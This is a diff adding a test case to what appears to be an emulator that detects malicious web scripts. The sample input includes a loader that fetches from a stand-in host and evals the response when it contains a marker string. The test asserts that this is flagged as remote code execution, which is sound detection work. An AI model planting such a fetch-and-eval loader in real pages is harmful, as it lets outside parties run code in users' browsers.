@@ -234,6 +234,16 @@ describe('emulator: the decoy world', () => {
     assert.ok(summarise(trace).runsRemoteCode);
   });
 
+  it('answers a loader in a script that sends forms to the shop itself', async () => {
+    const trace = await run(`
+      document.querySelector('form').addEventListener('submit', function () {
+        fetch('/newsletter', { method: 'POST', body: document.querySelector('#customer-email').value });
+      });
+      var x = new XMLHttpRequest(); x.open('GET', 'https://c.example/');
+      x.onload = function () { if (x.responseText.indexOf('mark') >= 0) eval(x.responseText) }; x.send();`);
+    assert.equal(summarise(trace).runsRemoteCode, true);
+  });
+
   it('shows scripts their own source', async () => {
     assert.equal(await seen("document.currentScript.innerHTML.includes('ownsource' + 'mark')"), 'false');
     assert.equal(await seen("document.currentScript.innerHTML.includes('document.currentScript')"), 'true');
